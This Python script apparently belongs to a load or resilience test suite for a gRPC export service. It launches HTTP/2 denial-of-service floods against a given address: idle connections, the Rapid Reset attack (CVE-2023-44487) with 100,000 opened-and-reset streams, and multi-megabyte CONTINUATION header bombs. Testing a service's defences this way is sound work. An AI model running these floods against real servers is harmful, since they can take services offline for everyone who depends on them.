# SPDX-License-Identifier: Apache-2.0
"""Floods, each in a process of its own so that good callers are measured alone: floods.py NAME ADDRESS.
Prints "held" when all of it stands, and holds it until its standard input ends."""

import contextlib
import struct
import sys
import threading

import http2

WATCH = "/exportqueue.v1.ExportService/WatchJob"
RESETS, RESETS_EACH, AT_ONCE = 100_000, 10_000, 200
SILENT = 200
BOMBS, BOMB_BYTES = 20, 2_000_000
CHUNK = 16_000


def silent(address):
    """Connections that open and say nothing."""
    return [http2.Connection(address, hello=b"") for _ in range(SILENT)]


def resets(address):
    """Streams that are opened and reset at once (CVE-2023-44487). A ping's answer says that all were seen."""
    fields = http2.call_fields(path=WATCH)
    for _ in range(RESETS // RESETS_EACH):
        connection = http2.Connection(address)
        for first in range(0, RESETS_EACH, AT_ONCE):
            connection.send(b"".join(
                http2.frame(http2.HEADERS, http2.END_HEADERS, stream, fields)
                + http2.frame(http2.DATA, http2.END_STREAM, stream, http2.message())
                + http2.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8))
                for stream in range(2 * first + 1, 2 * (first + AT_ONCE), 2)))
        connection.send(http2.frame(http2.PING, payload=b"12345678"))
        assert any(kind == http2.PING and payload == b"12345678" for kind, _, _, payload in connection.frames())
        connection.close()
    return []


def bombs(address, is_acknowledged=False):
    """Headers without end, in continuations: one huge one, or very many."""
    blocks = [http2.call_fields(more=(("x-filling", "y" * BOMB_BYTES),)),
              http2.call_fields(more=[("x-%d" % i, "y" * 100) for i in range(BOMB_BYTES // 100)])]
    held = []

    def throw(block):
        connection = http2.Connection(address)
        held.append(connection)
        if is_acknowledged:
            next(kind for kind, *_ in connection.frames() if kind == http2.SETTINGS)
            connection.send(http2.frame(http2.SETTINGS, http2.ACK))
        with contextlib.suppress(OSError):  # the server had enough of it
            for at in range(0, len(block), CHUNK):
                kind = http2.CONTINUATION if at else http2.HEADERS
                connection.send(http2.frame(kind, 0, 1, block[at:at + CHUNK]))
    threads = [threading.Thread(target=throw, args=(blocks[i % 2],)) for i in range(BOMBS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return held


def bombs_of_those_who_know_the_limit(address):
    return bombs(address, is_acknowledged=True)


if __name__ == "__main__":
    kept = {each.__name__: each for each in (silent, resets, bombs, bombs_of_those_who_know_the_limit)}[
        sys.argv[1]](sys.argv[2])
    print("held", flush=True)
    sys.stdin.read()
